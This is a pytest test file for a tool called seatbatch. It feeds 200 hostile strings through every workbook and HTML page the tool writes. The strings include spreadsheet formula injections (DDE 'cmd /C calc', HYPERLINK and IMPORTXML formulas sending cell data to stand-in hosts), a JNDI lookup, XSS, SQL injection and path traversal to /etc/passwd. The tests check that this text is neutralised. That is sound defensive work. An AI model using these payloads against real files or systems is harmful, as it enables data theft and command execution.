"""Text from input is data, never code (SPEC §8): 200 formula-, script- and path-like strings
through every workbook and page seatbatch writes, and nothing written outside --out."""

from __future__ import annotations

import os
from itertools import product
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from conftest import Env, customer, device, order

# the subject is what the documents and file names make of input text, not the ledger
pytestmark = pytest.mark.sqlite_only

PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\x00", "=\x00")
BODIES = (
    "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"click")', "1+2", "SUM(A1:A9)",
    "A1", "2*3", 'IMPORTXML(CONCAT("http://e.example/?",A2),"//a")', 'DDE("cmd";"/C calc")',
    "@SUM(1)", "+1", "-1", "=1", "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>', "' OR 1=1 --", "${jndi:ldap://e.example/a}", "{{7*7}}",
    "../../etc/passwd", "x\ny", "_x0041_", "#N/A", "#REF!", "TRUE", "0.1", "2026-01-01",
)
PAYLOADS = [prefix + body for prefix, body in product(PREFIXES, BODIES)]
SCRIPT_LIKE = ("<script>alert", "<img src=x", "onerror=alert(1)>")


def stored(payload: str) -> str:
    """What the ledger keeps of a cell: the reader trims surrounding whitespace."""
    return payload.strip()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Every workbook and page seatbatch writes, made from 200 hostile strings."""
    env = Env(tmp_path_factory.mktemp("hostile"))
    from conftest import CONFIG

    env.config.write_text(CONFIG)
    assert len(PAYLOADS) == 200
    customers = [customer(f"C-{i:03d}", organization=p) for i, p in enumerate(PAYLOADS)]
    devices = [dict(device(f"SN-{i:03d}", customer_id=f"C-{i:03d}"), location=p)
               for i, p in enumerate(PAYLOADS)]
    orders = [order(f"L{i:03d}", customer_id=f"C-{i:03d}", subscription=f"S{i}",
                    po_number=p[:64]) for i, p in enumerate(PAYLOADS)]
    book = env.workbook(customers=customers, devices=devices, orders=orders)
    bad = env.workbook("bad.xlsx", customers=customers, devices=devices,
                       orders=[*orders[:5], order("X1", customer_id="C-000", seats=0)])
    before = _tree(env.root)
    quote = env.quote(book)
    processed = env.process(book)
    rejected = env.process(bad)
    report = env.run("report", "--month", "2026-11")
    template = env.run("template", env.root / "pre.xlsx", "--partner", "P-ACME")
    for result in (quote, processed, report, template):
        assert result.code == 0, result.stderr
    assert rejected.code == 1
    written = _tree(env.root) - before
    return {"env": env, "quote": quote.folder, "process": processed.folder,
            "rejected": rejected.folder, "report": report.folder,
            "template": env.root / "pre.xlsx", "written": written}


def _tree(root: Path) -> set[str]:
    return {str(Path(folder, name).relative_to(root))
            for folder, _, names in os.walk(root) for name in names}


def _workbooks(hostile: dict[str, Any]) -> list[Path]:
    invoices = sorted((hostile["process"] / "invoices").glob("*.xlsx"))
    assert len(invoices) == 200
    return [*invoices, hostile["quote"] / "invoices" / "quote.xlsx",
            hostile["rejected"] / "rejected.xlsx", hostile["report"] / "report.xlsx",
            hostile["template"]]


def test_no_formula_in_any_workbook_and_every_string_as_given(hostile: dict[str, Any]) -> None:
    wanted = {stored(p) for p in PAYLOADS} | {stored(p)[:64] for p in PAYLOADS}
    seen_in: dict[str, set[str]] = {}
    for path in _workbooks(hostile):
        book = openpyxl.load_workbook(path)
        for ws in book:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate)
                    if not isinstance(cell.value, str):
                        continue
                    value = unescape(cell.value)
                    for text in (value, value.split(" — ", 1)[-1]):
                        if text in wanted:
                            seen_in.setdefault(path.name, set()).add(text)
                    if value[:1] in "=+-@\x00":
                        assert cell.quotePrefix, (path.name, cell.coordinate, value)
    for name in ("quote.xlsx", "rejected.xlsx", "report.xlsx", "pre.xlsx"):
        assert len(seen_in.get(name, ())) >= 150, name  # the payloads are there, as text
    assert sum(len(v) for k, v in seen_in.items() if k.startswith("INV-")) >= 200


def test_script_like_text_is_only_ever_escaped_in_html(hostile: dict[str, Any]) -> None:
    pages = [*hostile["process"].rglob("*.html"), *hostile["quote"].rglob("*.html"),
             *hostile["rejected"].rglob("*.html"), *hostile["report"].rglob("*.html")]
    assert len(pages) > 200
    escaped = 0
    for page in pages:
        html = page.read_text()
        for payload in SCRIPT_LIKE:
            assert payload not in html, page
        escaped += "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert escaped >= 8


def test_nothing_is_written_outside_out(hostile: dict[str, Any]) -> None:
    outside = {p for p in hostile["written"]
               if not p.startswith("out/") and p not in {"ledger.db", "pre.xlsx"}
               and not p.startswith("ledger.db-")}
    assert outside == set()
    names = {Path(p).name for p in hostile["written"]}
    assert not any(".." in name or "passwd" in name for name in names)


@pytest.mark.parametrize("bad_id", ["../../x", "/etc/passwd", "a/b", "C\x00D", ".."])
def test_path_like_ids_never_reach_a_file_name(env: Env, bad_id: str) -> None:
    before = _tree(env.root)
    result = env.process(env.workbook(customers=[customer(bad_id)],
                                      orders=[order(bad_id, customer_id=bad_id)]))
    assert result.code == 1
    assert {r["code"] for r in result.manifest["rejections"]} >= {"invalid_id"}
    written = _tree(env.root) - before - {"orders.xlsx"}
    assert all(p.startswith(("out/", "ledger.db")) for p in written), written
    assert not (env.root / "../../x").exists() and not (env.root / "a").exists()
    if "\x00" not in bad_id:  # an argument cannot hold NUL
        partner = env.run("process", env.root / "orders.xlsx", "--partner", bad_id)
        assert partner.code == 2 and "unknown partner" in partner.stderr
